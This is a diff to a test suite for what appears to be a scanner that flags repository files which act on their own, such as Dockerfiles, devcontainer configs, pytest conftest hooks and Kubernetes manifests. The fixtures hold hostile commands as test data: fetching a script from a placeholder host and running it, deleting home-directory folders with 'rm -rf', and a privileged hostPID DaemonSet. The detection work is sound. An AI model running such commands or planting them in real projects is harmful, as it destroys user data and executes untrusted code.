@@ -84,6 +84,13 @@ describe('files that act', () => {
       'run-code',
     ],
     ['.devcontainer/devcontainer.json', '{"initializeCommand":"rm -rf ~/Documents"}', 'delete-path'],
+    ['Dockerfile', 'FROM a\nADD https://x.example.net/b.sh /b.sh\nRUN chmod +x /b.sh && /b.sh\n', 'run-code'],
+    ['Dockerfile', 'FROM a\nADD https://x.example.net/b.tgz /srv/\nRUN sh /srv/b/install.sh\n', 'run-code'],
+    [
+      'deploy/ds.yaml',
+      'kind: DaemonSet\nspec:\n  hostPID: true\n  c:\n    securityContext: {privileged: true}\n',
+      'weaken',
+    ],
     ['conftest.py', 'import os\ndef pytest_unconfigure():\n    os.system("rm -rf ~/scans")\n', 'delete-path'],
     [
       'conftest.py',
@@ -141,6 +148,8 @@ describe('files that act', () => {
     ],
     ['conftest.py', 'import os, shutil\ndef wipe(home):\n    shutil.rmtree(home)\n'],
     ['jest.setup.js', "require('child_process').execSync('rm -rf tmp/out')\n"],
+    ['Dockerfile', 'FROM a\nADD https://x.example.net/b.csv /d/b.csv\nRUN wc -l /d/b.csv && make\n'],
+    ['deploy/ds.yaml', 'kind: DaemonSet\nspec:\n  hostNetwork: true\n  hostPID: true\n  privileged: false\n'],
     ['fastlane/Fastfile', 'lane :docs do\n  sh("git push -f origin gh-pages")\nend\n'],
     ['build.gradle', "def p = new Properties()\np.load(new FileInputStream('k'))\nclean { delete 'out' }\n"],
     ['src/Start.cs', 'class A { void Uninstall() { Process.Start("bash", "-c \\"rm -rf ~/.quux\\""); } }\n'],
